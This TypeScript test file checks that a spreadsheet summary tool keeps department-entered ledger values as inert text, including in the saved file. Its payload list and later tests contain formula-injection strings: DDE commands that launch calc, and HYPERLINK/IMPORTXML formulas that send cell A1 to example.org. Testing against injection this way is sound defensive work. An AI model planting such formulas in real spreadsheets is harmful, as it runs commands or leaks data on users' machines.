/** Whatever a department writes arrives in our sheets as the same characters and as text, never as a formula, a number or a date. */
import { compileSummary } from "../../src/actions/compile";
import { reviewWorkbook } from "../../src/actions/review";
import { localeOf } from "../../src/locales/locale";
import { readWorkbookFile } from "../../src/files";
import { newBook } from "../../src/workbench/book/openBook";
import { saveBook } from "../../src/workbench/book/save";
import type { Host } from "../../src/workbench/host/createHost";
import type { ModelCell } from "../../src/workbench/model/workbook";
import { aSheet } from "../../src/workbench/model/newWorkbook";
import { open, request, valueOf } from "./office";
import { valueOfCell } from "./ourSheet";

const asked = { ...request, locale: localeOf("zh-CN") };
const INDICATOR = "通过质量管理体系认证企业";
const DUTY = "建筑节能";

const NASTY = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(A1:A9)",
  "＝1+1",
  "＋1",
  "－1家左右",
  "＠区农委",
  "'=1+1",
  "''已引",
  "\t=1+1",
  "=1+1\n=2+2",
  "=cmd|'/c calc'!A0",
  "=DDE(\"cmd\";\"/c calc\";\"x\")",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=HYPERLINK("http://example.org/?"&A1,"点我")',
  '=IMPORTXML(CONCAT("http://example.org/",A1),"//a")',
  "{=TABLE(A1)}",
  "%0A=1+1",
  "三十家😀𠮷",
  "1-2",
  "TRUE啊",
  "<b>30</b>&amp;",
  "_x000D_=1+1",
];

/** A ledger that says `text` of an indicator and of a duty. */
const ledgerOf = (text: string) => aSheet("台账", [["填报单位：区市场监管局"], ["指标", "目标值", "完成值"], [INDICATOR, "30家以上", text], [DUTY, "", text]]);
const ourCells = (host: Host): ModelCell[] => host.workbook.sheets.filter(({ name }) => name !== "台账").flatMap(({ cells }) => [...cells.values()].flatMap((line) => [...line.values()]));
/** Formulas of our own: counts, sums, shares. */
const OURS = /^=(?:(?:COUNTIFS?|SUM)\([A-Z0-9$:",.\p{Script=Han}（）]+\)\+?|IF\(\$I\$\d+=0,0,\(INT\([$A-Z0-9*/()><=,+\-IFMOD]+)+$|^=[A-Z]+\d+\+[A-Z]+\d+$/u;

test.each(NASTY)("%j", async (text) => {
  const host = open([ledgerOf(text)]);
  valueOf(await compileSummary(asked));
  // A long one stands in the explanation.
  expect(valueOfCell(host, "汇总表", INDICATOR, "完成值")).toBe(text.length <= 40 ? text.trim() : "见情况说明");
  expect(valueOfCell(host, "汇总表", INDICATOR, "情况说明")).toBe(`填报内容须人工确认：区市场监管局“${text.trim()}”`);
  expect(valueOfCell(host, "数据核对", INDICATOR, "各方报送")).toBe(`区市场监管局：“${text.trim()}”（台账!C3）`);
  expect(valueOfCell(host, "阶段进度", DUTY, "工作任务、进展情况")).toBe(`区市场监管局：${text.trim()}`);
  for (const { formula } of ourCells(host)) if (formula !== undefined) expect(formula).toMatch(OURS);
});

test("also in the file that is saved", async () => {
  for (const text of ["=cmd|'/c calc'!A0", "＝1+1", "'=1+1", "_x000D_=1+1"]) {
    const host = open([ledgerOf(text)]);
    valueOf(await compileSummary(asked));
    const bytes = valueOf(await saveBook(newBook(host.workbook)));
    const read = valueOf(readWorkbookFile(bytes, "汇总.xlsx"));
    const summary = read.sheets.find(({ name }) => name === "汇总表")!.grid!;
    expect(summary.values.flat()).toContain(text);
    for (const { name, grid } of read.sheets) for (const formula of grid?.formulas.values() ?? []) if (name !== "台账") expect(formula).toMatch(OURS);
  }
});

test("names of files, sheets and departments are text too", async () => {
  open([aSheet("=1+1", ledgerRows("=HYPERLINK(1)"))]);
  const { ledgers } = valueOf(await reviewWorkbook({ ...request, departments: { "=1+1": "区市场监管局" } }));
  const host = open([aSheet("空")]);
  valueOf(await compileSummary({ ...asked, extra: [{ file: "=cmd|'/c calc'!A0.xlsx", reviews: ledgers }], unread: [{ file: "@坏.xlsx", sheet: "+表", reason: "-打不开" }] }));
  expect(valueOfCell(host, "汇总表", INDICATOR, "数据来源")).toBe("=cmd|'/c calc'!A0.xlsx · =1+1!C3");
  const texts = ourCells(host).map(({ value }) => value);
  for (const text of ["@坏.xlsx", "+表", "-打不开"]) expect(texts).toContain(text);
  for (const { formula } of ourCells(host)) if (formula !== undefined) expect(formula).toMatch(OURS);
});

const ledgerRows = (text: string) => [["填报单位：区市场监管局"], ["指标", "目标值", "完成值"], [INDICATOR, "30家以上", text]];

test("a text of 30,000 characters arrives whole; one that fills a cell is cut visibly, and nothing fails", async () => {
  const long = `=${"很长的说明，".repeat(5_000)}`.slice(0, 30_000);
  let host = open([ledgerOf(long)]);
  valueOf(await compileSummary(asked));
  expect(valueOfCell(host, "阶段进度", DUTY, "工作任务、进展情况")).toBe(`区市场监管局：${long}`);
  expect(valueOfCell(host, "数据核对", INDICATOR, "各方报送")).toBe(`区市场监管局：“${long}”（台账!C3）`);
  host = open([ledgerOf("=".padEnd(32_767, "长"))]);
  valueOf(await compileSummary(asked));
  expect(String(valueOfCell(host, "阶段进度", DUTY, "工作任务、进展情况"))).toHaveLength(32_767);
  expect(String(valueOfCell(host, "阶段进度", DUTY, "工作任务、进展情况")).at(-1)).toBe("…");
});
